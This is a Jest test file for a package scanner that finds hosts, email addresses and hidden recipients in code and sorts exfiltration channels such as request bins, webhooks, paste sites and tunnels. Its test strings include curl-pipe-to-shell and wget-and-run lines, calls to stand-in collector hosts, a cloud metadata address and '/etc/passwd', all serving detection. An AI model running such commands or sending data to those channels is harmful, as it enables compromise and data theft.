import { describe, expect, it } from '@jest/globals'
import { findHosts, isInSentence, quotedAround } from '../../../src/rules/lib/hosts.js'
import {
  CATALOGUE_MIN_SITES,
  exfilCategory,
  isEndpointCatalogue,
  isIgnoredHost,
  isOwnRawContent,
  ownGitHubOwners,
  ownSites,
  siteOf
} from '../../../src/rules/lib/host-policy.js'
import { findEmails } from '../../../src/rules/lib/emails.js'
import { recipientField } from '../../../src/rules/lib/recipients.js'
import { makeFiles, makeManifest } from '../../helpers/factories.js'

describe('findHosts', () => {
  it.each([
    ['fetch("https://api.collector.xyz/x")', ['api.collector.xyz']],
    ['const u = `wss://user:pw@Sock.Host.io:4444/p`', ['sock.host.io']],
    ["http.request({ hostname: 'data.evil.io', path: '/' })", ['data.evil.io']],
    ["const ip = '203.0.113.7'", ['203.0.113.7']],
    ["const url = 'http://203.0.113.7:8000/x'", ['203.0.113.7']],
    ["const version = '1.2.3.4'", []],
    ["const tag = 'v1.2.3.4'", []],
    ["const v = '1.2.3.4.5'", []],
    ["const o = '300.1.1.1'", []],
    ["server: 'main.js'", []],
    ['const tpl = `https://${host}/x`', []],
    ['new URL(`http://[${payload.value}]`)', []],
    ["uniquelocal: ['10.0.0.0/8', '172.16.0.0/12']", []],
    ["const imds = '169.254.169.254'", ['169.254.169.254']],
    ["const v6 = 'http://[2001:db8::1]:8080/'", ['[2001:db8::1]']],
    ['file:///etc/passwd', []]
  ])('%s', (text, hosts) => {
    expect(findHosts(text).map((match) => match.host)).toEqual(hosts)
  })

  it.each([
    ["'https://discord.com/api/webhooks/1/x'", '/api/webhooks/1/x'],
    ["'http://a.b.io:4444/p/q?x=1' + y", '/p/q?x=1'],
    ['`https://api.telegram.org/bot${token}/send`', '/bot$'],
    ["'https://a.b.io'", undefined]
  ])('reads the path of %s', (text, path) => {
    expect(findHosts(text)[0]?.path).toBe(path)
  })

  it('reads the port of a URL', () => {
    expect(findHosts("'http://a.b.io:4444/x'")[0]).toMatchObject({ host: 'a.b.io', port: 4444 })
  })

  // a backtracking pattern would hang here for minutes: the jest timeout is the guard
  it('handles a long hostile line', () => {
    const line = 'http://'.repeat(50_000) + '1.1.1.'.repeat(50_000) + '@'.repeat(50_000)
    expect(findHosts(line)).toEqual([])
    expect(findEmails(line)).toEqual([])
  }, 10_000)
})

describe('host policy', () => {
  it.each([
    ['localhost', true],
    ['127.0.0.1', true],
    ['www.w3.org', true],
    ['schemas.microsoft.com', true],
    ['api.example.com', true],
    ['svc.test', true],
    ['webhook.site', false],
    ['api.github.com', false]
  ])('isIgnoredHost(%s) -> %s', (host, expected) => {
    expect(isIgnoredHost(host)).toBe(expected)
  })

  it.each([
    ['api.stripe.com', 'stripe.com'],
    ['a.b.co.uk', 'b.co.uk'],
    ['evil.herokuapp.com', 'evil.herokuapp.com'],
    ['203.0.113.7', '203.0.113.7']
  ])('siteOf(%s) -> %s', (host, site) => {
    expect(siteOf(host)).toBe(site)
  })

  it.each([
    ['webhook.site', undefined, 'request bin'],
    ['abc.m.pipedream.net', undefined, 'request bin'],
    ['hooks.slack.com', '/services/x', 'chat webhook'],
    ['discord.com', '/api/webhooks/1/x', 'chat webhook'],
    ['discord.com', '/invite/x', undefined],
    ['discord.com', undefined, undefined],
    ['api.telegram.org', '/bot123:abc/sendMessage', 'chat webhook'],
    ['api.telegram.org', '/file/x', undefined],
    ['paste.ee', undefined, 'paste site'],
    ['x.ngrok.io', undefined, 'tunnel'],
    ['abc.loca.lt', undefined, 'tunnel'],
    ['x.oast.pro', undefined, 'out-of-band testing'],
    ['dnslog.cn', undefined, 'out-of-band testing'],
    ['notwebhook.site', undefined, undefined],
    ['api.github.com', undefined, undefined]
  ])('exfilCategory(%s, %s) -> %s', (host, path, category) => {
    expect(exfilCategory(host, path)).toBe(category)
  })

  it('takes the own sites from homepage and repository', () => {
    const manifest = makeManifest({
      homepage: 'https://docs.acme.dev/lib',
      repository: { type: 'git', url: 'git+https://gitlab.com/acme/lib.git' }
    })
    expect([...ownSites(manifest)].sort()).toEqual(['acme.dev', 'gitlab.com'])
    expect([...ownSites(makeManifest({ repository: 'acme/lib' }))]).toEqual(['github.com'])
  })
})

describe('findEmails', () => {
  it.each([
    ["Bcc: 'phan@giftshop.club',", ['phan@giftshop.club']],
    ['"Name" <A.B+tag@Mail.Example.io>', ['a.b+tag@mail.example.io']],
    ["import x from '@scope/pkg'", []],
    ["require('pkg@1.2.3')", []],
    ['user@localhost', []]
  ])('%s', (text, expected) => {
    expect(findEmails(text).map((match) => match.address)).toEqual(expected)
  })
})

describe('recipientField', () => {
  it.each([
    ["    Bcc: '", 'bcc'],
    ['  "bcc": "', 'bcc'],
    ["mailOptions.bcc = '", 'bcc'],
    ["to: ['a@b.io', '", 'to'],
    ["to: [user.email, '", 'to'],
    ["bcc: process.env.ARCHIVE || '", 'bcc'],
    ["message.addHeader('Bcc', '", 'bcc'],
    ["res.setHeader('CC', '", 'cc'],
    ["headers['Bcc'] = '", 'bcc'],
    ["mail.bcc('", 'bcc'],
    ["builder.addRecipient('", 'recipient'],
    ["'Subject: hi\\r\\nBcc: ", 'bcc'],
    ["socket.write('RCPT TO:<", 'rcpt to'],
    ["author: '", undefined],
    ["const support = '", undefined],
    ["if (to === '", undefined],
    ["to: user, subject: 'mail ", undefined]
  ])('%j -> %s', (before, field) => {
    expect(recipientField(before)).toBe(field)
  })
})

describe('isInSentence', () => {
  const at = (text: string) => isInSentence(text, text.indexOf('://') + 3)

  it.each([
    'See https://reactjs.org/link/crossorigin-error for more information.',
    'Learn more about using refs safely here: https://reactjs.org/link/strict-mode-string-ref',
    'Website https://www.freedesktop.org/ has the full specification'
  ])('%s is prose', (text) => {
    expect(at(text)).toBe(true)
  })

  it.each([
    'https://api.collector.xyz/v1/collect',
    'see https://x.io/a',
    'curl -fsSL https://get.collector.xyz/install.sh | sh then wait for it',
    'wget https://get.collector.xyz/x && chmod +x x and run it',
    'token=abc https://x.io/a?b=1 id=2'
  ])('%s is not', (text) => {
    expect(at(text)).toBe(false)
  })
})

describe('quotedAround', () => {
  it('gives the quoted string around a position', () => {
    const line = `log(1, "See https://x.io/a for more", 'b')`
    expect(quotedAround(line, line.indexOf('x.io'))).toBe('See https://x.io/a for more')
  })

  it('gives nothing outside quotes', () => {
    const line = 'curl https://x.io/a'
    expect(quotedAround(line, line.indexOf('x.io'))).toBeUndefined()
  })
})

describe('own GitHub raw content', () => {
  it.each([
    [{ repository: 'acme/tool' }, ['acme']],
    [{ repository: 'github:Acme/tool' }, ['acme']],
    [{ repository: { type: 'git', url: 'git+https://github.com/acme/tool.git' } }, ['acme']],
    [{ repository: 'git@github.com:acme/tool.git' }, ['acme']],
    [{ homepage: 'https://github.com/acme/tool#readme' }, ['acme']],
    [{ repository: 'https://gitlab.com/acme/tool' }, []]
  ])('%j has owners %j', (fields, owners) => {
    expect([...ownGitHubOwners(makeManifest(fields))]).toEqual(owners)
  })

  it('matches raw files of an own owner only', () => {
    const owners = new Set(['acme'])
    const [own] = findHosts("'https://raw.githubusercontent.com/acme/tool/main/x.yml'")
    const [other] = findHosts("'https://raw.githubusercontent.com/evil/tool/main/x.sh'")
    expect(own && isOwnRawContent(own, owners)).toBe(true)
    expect(other && isOwnRawContent(other, owners)).toBe(false)
  })
})

describe('isEndpointCatalogue', () => {
  const urls = (count: number) =>
    Array.from({ length: count }, (_, i) => `get('https://rpc.net${i}.xyz')`).join('\n')

  it('needs CATALOGUE_MIN_SITES distinct sites in code', () => {
    expect(isEndpointCatalogue(makeFiles({ 'a.js': urls(CATALOGUE_MIN_SITES) }))).toBe(true)
    expect(isEndpointCatalogue(makeFiles({ 'a.js': urls(CATALOGUE_MIN_SITES - 1) }))).toBe(false)
  })

  it('does not count comments, docs or placeholders', () => {
    const many = urls(CATALOGUE_MIN_SITES)
    expect(isEndpointCatalogue(makeFiles({ 'a.js': `/*\n${many}\n*/` }))).toBe(false)
    expect(isEndpointCatalogue(makeFiles({ 'README.md': many }))).toBe(false)
    const placeholders = many.replace(/\.xyz/g, '.example')
    expect(isEndpointCatalogue(makeFiles({ 'a.js': placeholders }))).toBe(false)
  })
})
